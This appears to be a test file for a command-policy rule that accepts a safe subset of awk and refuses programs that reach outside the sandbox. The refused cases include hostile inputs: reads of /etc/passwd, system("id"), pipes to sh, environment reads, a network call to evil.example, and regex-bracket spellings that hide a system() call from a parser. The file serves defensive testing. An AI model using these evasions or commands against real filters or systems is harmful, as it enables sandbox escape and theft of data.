/**
 * The awk parser: real programs from CI scripts and agent transcripts parse; programs that
 * reach outside (redirects, pipes, getline, system, ENVIRON, ARGV, `@`) are refused however
 * they are spelled, continued or hidden in a regex. The accepted programs are also run through
 * the awk on this machine, so the subset stays real awk.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { checkAwkProgram } from '../../../src/bash-policy/rules/awk-program.js';

const accepted = [
  '{ print $1 }',
  'NR==FNR{a[$1];next} $1 in a',
  '{ print $1,\n  $2 }',
  'BEGIN { FS = ":" } { print $1 }',
  '{ sum += $2 } END { print sum / NR }',
  '{ a[$1]++ } END { for (k in a) print k, a[k] }',
  '!seen[$0]++',
  'length($0) > 72',
  '$3 > 100 { print }',
  '{ if (length > max) max = length } END { print max }',
  '{ printf("%-20s %s\\n", $1, $2) }',
  'NR > 1 && /error|fail/ { n++ } END { print n + 0 }',
  '/^#/ { next } { print }',
  '{ $1 = ""; print }',
  'BEGIN { x = 1 } { print x ? "a" : "b" }',
  '{ gsub(/[[:space:]]+$/, ""); print }',
  '/[]a-z]/ { print }',
  'function max(a, b) { return (a > b) ? a : b } { m = max(m, $1) } END { print m }',
  '{ for (i = NF; i > 0; i--) printf "%s ", $i; print "" }',
  '{ n = split($0, parts, /,/); print n }',
  'BEGIN { while (i < 3) { i++ } print i }',
  'BEGIN { do { i++ } while (i < 3); print i }',
  '{ print (NR > 1) }',
  '# a comment\n{ print } # another',
  '{ print substr($0, 1, 10) }',
  'BEGIN{x=1} {print x}',
  '{ print $NF }',
  '{ if ($1 == "a") print "yes"; else print "no" }',
];

const refused: [program: string, reason: RegExp][] = [
  ['{ print > "out" }', /outside parentheses/],
  ['{ print $1,\n $2 > "/tmp/x" }', /outside parentheses/],
  ['{ print # c\n > "f" }', /outside parentheses|value was expected/],
  ['{ x = 1 &&\n y; print > "out" }', /outside parentheses/],
  ['{ print (1)>("f") }', /outside parentheses/],
  ['/[/]/ { system("id") }', /bracket/],
  ['/[]/]/ { system("id") }', /bracket/],
  ['/[\\]/]/ { print | "sh" }', /bracket/],
  ['{ print | "sh" }', /pipe/],
  ['BEGIN { "date" | getline d }', /pipe|getline/],
  ['BEGIN { getline < "/etc/passwd" }', /getline/],
  ['BEGIN { system("id") }', /system/],
  ['BEGIN { print ENVIRON["HOME"] }', /ENVIRON/],
  ['BEGIN { ARGV[1] = "/etc/passwd"; ARGC = 2 }', /ARGV/],
  ['BEGIN { f = "system"; @f("id") }', /@/],
  ['@include "x.awk"', /@/],
  ['BEGIN { undefined_fn(1) }', /does not define/],
  ['BEGIN { x = "a\\\n"; system("id") }', /another line|system/],
  ['/x/ { print }\n# c \\\n{ system("id") }', /comment/],
  ['BEGIN { y = x++ /2; z = 1/ }', /awks disagree/],
  ['BEGIN { if (1) /x; print; y/ }', /awks disagree/],
  ['BEGIN { print |& "/inet/tcp/0/evil.example/80" }', /pipe/],
  ['BEGIN { switch (1) { case 1: print } }', /value was expected|where/],
  ['{ print a, b > c }', /outside parentheses/],
];

describe('awk programs', () => {
  it('parses the real programs of the subset', () => {
    for (const program of accepted) assert.equal(checkAwkProgram(program), undefined, program);
  });

  it('accepts only what the awk on this machine also parses', () => {
    for (const program of accepted) {
      const run = spawnSync('awk', [program, '/dev/null'], { encoding: 'utf8' });
      assert.equal(run.status, 0, `${program}: ${run.stderr}`);
    }
  });

  it('refuses programs that reach outside, however they are written', () => {
    for (const [program, reason] of refused) {
      const denial = checkAwkProgram(program);
      assert.ok(denial, `expected a refusal for ${JSON.stringify(program)}`);
      assert.equal(denial.rule, 'awk-program');
      assert.match(denial.message, reason, program);
    }
  });

  it('refuses what the awk on this machine would run as a command, in the desynchronising spellings', () => {
    // mawk reads `/[/]/` as a complete regex and runs the system() after it.
    const run = spawnSync('awk', ['/[/]/ { system("echo ran") }'], { input: '/\n', encoding: 'utf8' });
    assert.match(run.stdout, /ran/);
    assert.ok(checkAwkProgram('/[/]/ { system("echo ran") }'));
  });
});
